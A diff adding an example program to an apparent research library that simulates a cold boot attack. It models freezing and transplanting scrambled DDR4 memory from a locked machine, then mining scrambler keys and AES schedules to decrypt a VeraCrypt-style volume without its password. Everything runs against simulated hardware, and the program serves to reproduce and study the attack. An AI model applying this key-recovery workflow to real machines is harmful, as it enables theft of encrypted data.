@@ -1,0 +1,80 @@
+//! The paper's headline demonstration as a library-usage example: steal a
+//! VeraCrypt-style disk key from a locked, scrambled DDR4 machine.
+//!
+//! Run with: `cargo run --release --example cold_boot_attack`
+
+use coldboot::attack::{
+    capture_dump_via_transplant, run_ddr4_attack, AttackConfig, TransplantParams,
+};
+use coldboot_dram::geometry::DramGeometry;
+use coldboot_dram::mapping::Microarchitecture;
+use coldboot_dram::module::DramModule;
+use coldboot_dram::retention::DecayModel;
+use coldboot_scrambler::controller::{BiosConfig, Machine};
+use coldboot_veracrypt::volume::MasterKeys;
+use coldboot_veracrypt::{MountedVolume, Volume};
+use rand::rngs::StdRng;
+use rand::SeedableRng;
+
+fn main() {
+    let geometry = DramGeometry {
+        channels: 1,
+        ranks: 1,
+        bank_groups: 2,
+        banks_per_group: 2,
+        rows: 64,
+        blocks_per_row: 64,
+    };
+
+    // The victim: a locked machine with a mounted encrypted volume. The
+    // expanded XTS key schedules sit in scrambled DRAM.
+    let secret = b"medical records, client ledgers, signing keys";
+    let volume = Volume::create(b"a very strong password", secret, &mut StdRng::seed_from_u64(9));
+    let mut victim = Machine::new(Microarchitecture::Skylake, geometry, BiosConfig::default(), 1);
+    let capacity = victim.capacity() as usize;
+    victim
+        .insert_module(DramModule::with_quality(capacity, 7, 0.35))
+        .expect("fresh socket");
+    victim.fill(0).expect("module present"); // idle machine: mostly zeroed RAM
+    MountedVolume::mount(&mut victim, &volume, b"a very strong password", 0x8_0070)
+        .expect("password is correct");
+    println!("victim ready: volume mounted, key schedules in scrambled DRAM");
+
+    // The attack: freeze, pull, carry for five seconds, dump on our own
+    // machine (same CPU generation; our scrambler stays on).
+    let mut attacker = Machine::new(Microarchitecture::Skylake, geometry, BiosConfig::default(), 2);
+    let dump = capture_dump_via_transplant(
+        &mut victim,
+        &mut attacker,
+        TransplantParams::paper_demo(), // -25C, 5 seconds
+        DecayModel::paper_calibrated(),
+    )
+    .expect("transplant");
+    println!("DIMM frozen, transplanted, dumped: {} KiB", dump.len() >> 10);
+
+    // Mine scrambler keys, search for AES schedules, recover master keys.
+    let report = run_ddr4_attack(&dump, &AttackConfig::default());
+    println!(
+        "mined {} candidate scrambler keys; {} AES schedules recovered",
+        report.candidates.len(),
+        report.outcome.recovered.len()
+    );
+
+    // Two adjacent AES-256 schedules = the XTS data + tweak keys.
+    let mut recovered = report.outcome.recovered.clone();
+    recovered.sort_by_key(|r| r.schedule_addr);
+    let pair = recovered
+        .windows(2)
+        .find(|w| w[1].schedule_addr == w[0].schedule_addr + 240)
+        .expect("attack failed to find the XTS key table");
+    let keys = MasterKeys {
+        data_key: pair[0].master_key.clone().try_into().expect("32 bytes"),
+        tweak_key: pair[1].master_key.clone().try_into().expect("32 bytes"),
+    };
+    let plaintext = volume.decrypt_all(&keys).expect("master keys decrypt the volume");
+    assert_eq!(&plaintext[..secret.len()], secret);
+    println!(
+        "volume decrypted WITHOUT the password: {:?}",
+        String::from_utf8_lossy(&plaintext[..secret.len()])
+    );
+}
